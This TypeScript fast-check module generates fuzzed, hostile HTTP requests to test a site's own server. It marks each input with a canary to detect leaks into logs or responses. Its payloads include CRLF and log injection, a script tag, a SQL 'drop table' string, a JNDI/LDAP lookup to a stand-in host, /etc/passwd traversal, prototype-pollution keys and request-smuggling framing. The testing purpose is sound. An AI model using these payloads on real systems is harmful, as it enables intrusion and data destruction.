import fc from 'fast-check';
import { apiPaths, openApiPath } from '../../contract/api.ts';

/** Hostile requests, as bytes. */

/** In every part that an attacker chooses; it must appear in no log and in no unexpected place of a response. */
export const canary = 'qXk7canary';

const text = (most: number) =>
  fc.oneof(
    fc.string({ unit: 'binary', maxLength: most }),
    fc.constantFrom(
      `${canary}\r\nSet-Cookie: owned=1`,
      `${canary}\u001b[31m\u001b]0;owned\u0007`,
      `${canary}\0\ud800\uffff\u202e`,
      canary,
    ),
  );

/** Accepted by the parser, so that it reaches further code. */
const visible = fc.oneof(
  fc.stringMatching(/^[\x21-\x7e]{0,60}$/).map((some) => some + canary),
  fc.constantFrom(
    `${canary}%0d%0aSet-Cookie:%20owned=1`,
    `${canary}","level":60,"msg":"owned`,
    `<script>${canary}</script>`,
    `';drop/**/table/**/leads;--${canary}`,
    `\${jndi:ldap://${canary}.example/}`,
    `../../../etc/passwd?${canary}`,
  ),
);

const mostlyVisible = (most: number) =>
  fc.oneof({ weight: 20, arbitrary: visible }, { weight: 1, arbitrary: text(most) });

const method = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom('GET', 'POST', 'HEAD', 'OPTIONS', 'PUT', 'DELETE', 'PATCH') },
  {
    weight: 1,
    arbitrary: fc.constantFrom('TRACE', 'CONNECT', 'PROPFIND', 'get', 'PRI', 'M-SEARCH', 'QUERY'),
  },
  { weight: 1, arbitrary: mostlyVisible(12) },
);

const known = [
  '/',
  '/about-us',
  '/home',
  '/blogs',
  '/blogs/',
  '/healthz',
  '/readyz',
  openApiPath,
  ...Object.values(apiPaths),
  apiPaths.contact,
];

const climbing = fc
  .array(fc.constantFrom('..', '.', '%2e%2e', '%2f', '\\', ';', '%00', '%c0%af', 'etc', 'passwd', '.env', ''))
  .map((parts) => `/${parts.join('/')}`);

const target = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...known) },
  { weight: 2, arbitrary: climbing },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.constantFrom(...known), mostlyVisible(80))
      .map(([path, tail]) => `${path}?${tail}`),
  },
  { weight: 2, arbitrary: mostlyVisible(200).map((tail) => `/blogs/${tail}`) },
  { weight: 1, arbitrary: text(80).map((tail) => `/${encodeURIComponent(tail.toWellFormed())}`) },
  {
    weight: 1,
    arbitrary: fc.constantFrom('*', '//evil.example/', 'http://evil.example/', `/${'a/'.repeat(3000)}`),
  },
);

const headerName = fc.oneof(
  {
    weight: 30,
    arbitrary: fc.constantFrom(
      'Accept',
      'Accept-Encoding',
      'Content-Encoding',
      'Content-Type',
      'Cookie',
      'Expect',
      'Form-Token',
      'If-None-Match',
      'Origin',
      'Range',
      'Referer',
      'Save-Number',
      'Sec-Fetch-Site',
      'Trailer',
      'Upgrade',
      'User-Agent',
      'X-Forwarded-For',
      'X-Forwarded-Host',
      'X-Forwarded-Proto',
      'X-HTTP-Method-Override',
      '__proto__',
    ),
  },
  { weight: 1, arbitrary: mostlyVisible(20) },
);

const headerValue = fc.oneof(
  mostlyVisible(60),
  fc.constantFrom(
    'application/json',
    'application/x-www-form-urlencoded',
    'gzip, br;q=nonsense, *;q=0',
    '100-continue',
    'bytes=0-,5-1,99999999999-',
    'websocket',
    '127.0.0.1, ::1, nonsense',
    'x'.repeat(9000),
  ),
);

const header = fc.tuple(headerName, headerValue).map(([name, value]) => `${name}: ${value}`);

const json = fc.oneof(
  fc.json(),
  fc
    .dictionary(
      fc.constantFrom('UserName', 'Email', 'UserId', 'City', 'Latitude', '__proto__'),
      fc.oneof(text(80), fc.jsonValue()),
    )
    .map((fields) => JSON.stringify({ UserName: canary, Email: `${canary}@vs.example`, ...fields })),
  text(300),
);

/** Bodies with correct and wrong lengths. */
const framed = fc
  .tuple(json, fc.constantFrom('true', 'chunked', 'none', 'short', 'long', 'both', 'nonsense'))
  .map(([body, how]): readonly [readonly string[], string] => {
    const length = Buffer.byteLength(body);
    const chunks = `${length.toString(16)};${canary}=1\r\n${body}\r\n0\r\n${canary}: x\r\n\r\n`;
    switch (how) {
      case 'chunked':
        return [['Transfer-Encoding: chunked'], chunks];
      case 'none':
        return [[], body];
      case 'short':
        return [[`Content-Length: ${Math.floor(length / 2)}`], body];
      case 'long':
        return [[`Content-Length: ${length + 100}`], body];
      case 'both':
        return [[`Content-Length: ${length}`, 'Transfer-Encoding: chunked'], chunks];
      case 'nonsense':
        return [['Content-Length: 1e3', 'Transfer-Encoding: gzip, chunked'], body];
      case 'true':
        return [[`Content-Length: ${length}`], body];
    }
  });

const types = fc.constantFrom(
  'Content-Type: application/json',
  'Content-Type: application/json',
  'Content-Type: application/x-www-form-urlencoded',
  'Content-Type: text/plain',
  `Content-Type: multipart/form-data; boundary=${canary}`,
  'X-No-Type: 1',
);

const wellFramed = fc
  .tuple(method, target, types, fc.array(header, { maxLength: 6 }), framed)
  .map(([verb, path, type, headers, [lengths, body]]) =>
    [`${verb} ${path} HTTP/1.1`, 'Host: vs.example', type, ...headers, ...lengths, '', body].join('\r\n'),
  );

const harmless = [
  `GET /about-us?${canary} HTTP/1.1\r\nHost: vs.example\r\n\r\n`,
  `POST ${apiPaths.contact} HTTP/1.1\r\nHost: vs.example\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}`,
];

/** A valid request with a few bytes changed, removed or doubled. */
const damaged = fc
  .tuple(
    fc.constantFrom(...harmless),
    fc.array(
      fc.tuple(fc.nat(160), fc.constantFrom('\0', '\r', '\n', ' ', ':', '\x80', '\t', '', '\r\n\r\n')),
      {
        minLength: 1,
        maxLength: 4,
      },
    ),
  )
  .map(([whole, wounds]) =>
    wounds.reduce((rest, [at, instead]) => rest.slice(0, at) + instead + rest.slice(at + 1), whole),
  );

const once = fc.oneof(
  { weight: 6, arbitrary: wellFramed },
  { weight: 3, arbitrary: damaged },
  { weight: 1, arbitrary: text(400) },
);

/** One request, or several pipelined ones. */
export const hostileBytes: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: once },
  { weight: 1, arbitrary: fc.array(once, { minLength: 2, maxLength: 4 }).map((all) => all.join('')) },
);
